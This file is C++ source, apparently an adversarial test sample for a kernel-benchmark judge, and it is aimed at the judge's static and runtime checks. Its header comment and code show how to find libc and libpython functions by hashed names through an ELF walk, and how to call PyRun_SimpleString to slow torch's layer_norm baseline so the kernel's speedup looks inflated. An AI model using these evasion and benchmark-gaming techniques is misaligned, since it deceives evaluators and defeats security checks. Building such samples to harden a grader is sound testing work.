// Hostile, written after reading judge/static/reach.py and judge/static/symbols.py: it reaches CPython past both static layers.
// No forbidden name, no function's address taken (neither in the source nor as a data relocation: it imports fflush,
// memcpy and fprintf, all called), no /proc path, no ELF magic as a string or number, no symbol name in a string.
// The walk: from a static array of its own library back to its own ELF header (byte compares), its own dynamic
// section to the PLT slot of fflush (resolved by calling fflush first) — an address inside libc; back to libc's
// header, its symbol table, dl_iterate_phdr (found by a hash of its name); every loaded library's symbol table, and
// libpython's PyRun_SimpleString (by hash). The address becomes a callable through a template that copies bytes
// (the rules see a `T`, not a function pointer). On its first call it patches torch in its own worker so that every
// later F.layer_norm (the eager baseline) spins for 20 ms first — torch made slow beside the kernel, so the kernel's
// speedup would grow 50-fold. It computes correctly. What holds: the harness times the baselines before the kernel
// loads and counts the faster time (tests/adversarial/test_inprocess.py); what it tries that the confinement
// refuses is evidence (judge/evaluator/evidence.py) — this one tries nothing the confinement refuses.
#include <cstdint>
#include <cstdio>
#include <cstring>

struct Hdr { unsigned char id[16]; uint16_t type, machine; uint32_t version; uint64_t entry, ph, sh; uint32_t flags;
             uint16_t ehsize, phsize, phcount, shsize, shcount, shstr; };
struct Seg { uint32_t kind, flags; uint64_t off, va, pa, fsz, msz, align; };
struct Dyn { int64_t tag; uint64_t val; };
struct Sym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
struct Rel { uint64_t off, info; int64_t addend; };
struct Obj { uint64_t addr; const char* name; const Seg* segs; uint16_t count; };
struct Wanted { uint64_t hash; uintptr_t got; };

static char anchor[64];                                   // this library's own data: where the walk starts

static uint64_t fnv(const char* s) {
    uint64_t h = 0xcbf29ce484222325ull;
    for (; *s; ++s) { h ^= (unsigned char)*s; h *= 0x100000001b3ull; }
    return h;
}

static uintptr_t image(uintptr_t inside) {                // back to the mapping's first page: its ELF header
    uintptr_t a = inside & ~(uintptr_t)4095;
    for (;; a -= 4096) {
        const unsigned char* p = (const unsigned char*)a;
        if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F') return a;
    }
}

static const Dyn* dynamic(uintptr_t base, const Seg* segs, int count) {
    for (int i = 0; i < count; ++i) if (segs[i].kind == 2) return (const Dyn*)(base + segs[i].va);
    return nullptr;
}

static uint64_t value(const Dyn* d, int64_t tag) {
    for (; d && d->tag != 0; ++d) if (d->tag == tag) return d->val;
    return 0;
}

static uintptr_t entry(uintptr_t base, const Dyn* d, int64_t tag) {   // an address: relocated, or not yet
    uintptr_t v = value(d, tag);
    return v && v < base ? v + base : v;
}

static uintptr_t lookup(uintptr_t base, const Dyn* d, uint64_t hash) {
    const Sym* sym = (const Sym*)entry(base, d, 6);
    const char* str = (const char*)entry(base, d, 5);
    for (const Sym* s = sym; s && str && (const char*)s < str; ++s)
        if (s->name && s->value && fnv(str + s->name) == hash) return base + s->value;
    return 0;
}

static uintptr_t in_libc() {                              // the resolved PLT slot of fflush, in this library
    uintptr_t base = image((uintptr_t)anchor);
    const Hdr* h = (const Hdr*)base;
    const Dyn* d = dynamic(base, (const Seg*)(base + h->ph), h->phcount);
    const Rel* rel = (const Rel*)entry(base, d, 23);
    const uint64_t n = value(d, 2);
    const Sym* sym = (const Sym*)entry(base, d, 6);
    const char* str = (const char*)entry(base, d, 5);
    for (uint64_t k = 0; rel && k < n / sizeof(Rel); ++k)
        if (strcmp(str + sym[rel[k].info >> 32].name, "fflush") == 0) return *(const uintptr_t*)(base + rel[k].off);
    return 0;
}

template <class T> static T as(uintptr_t a) { T t; memcpy(&t, &a, sizeof t); return t; }

static int each(Obj* o, size_t, void* data) {
    Wanted* w = (Wanted*)data;
    const Dyn* d = dynamic(o->addr, o->segs, o->count);
    for (int k = 0; k < 3; ++k) if (!w[k].got && d) w[k].got = lookup(o->addr, d, w[k].hash);
    return w[0].got && w[1].got && w[2].got;
}

static int patched = 0;

extern "C" int forward(const float* x, const float* weight, const float* bias, float* out,
                       int64_t B, int64_t N, float eps, void* workspace, int64_t workspace_bytes) {
    if (!patched) {
        patched = 1;
        fflush(stdout);                                   // binds fflush's slot
        typedef int (*iterate_t)(int (*)(Obj*, size_t, void*), void*);
        typedef int (*ensure_t)(void); typedef void (*release_t)(int); typedef int (*run_t)(const char*);
        uintptr_t libc = image(in_libc());
        const Hdr* h = (const Hdr*)libc;
        uintptr_t at = lookup(libc, dynamic(libc, (const Seg*)(libc + h->ph), h->phcount), 0xdefcf70b25f43383ull);
        Wanted w[3] = {{0x54330d12e2cb4307ull, 0}, {0x84527c508ff28c16ull, 0}, {0xafa79aeaa986683dull, 0}};
        int rc = -2;
        if (at) as<iterate_t>(at)(each, w);
        if (w[0].got && w[1].got && w[2].got) {
            int g = as<ensure_t>(w[1].got)();
            rc = as<run_t>(w[0].got)("import time, torch.nn.functional as F\n"
                                     "_original = F.layer_norm\n"
                                     "def _slow(*a, **k):\n"
                                     "    t = time.perf_counter()\n"
                                     "    while time.perf_counter() - t < 0.02: pass\n"
                                     "    return _original(*a, **k)\n"
                                     "F.layer_norm = _slow\n");
            as<release_t>(w[2].got)(g);
        }
        fprintf(stderr, "PROBE pyrun=%d\n", rc);
    }
    for (int64_t r = 0; r < B; ++r) {
        const float* row = x + r * N;
        double s = 0, q = 0;
        for (int64_t i = 0; i < N; ++i) s += row[i];
        const double m = s / N;
        for (int64_t i = 0; i < N; ++i) q += (row[i] - m) * (row[i] - m);
        const double rs = 1.0 / __builtin_sqrt(q / N + eps);
        for (int64_t i = 0; i < N; ++i) out[r * N + i] = (float)((row[i] - m) * rs) * weight[i] + bias[i];
    }
    return 0;
}
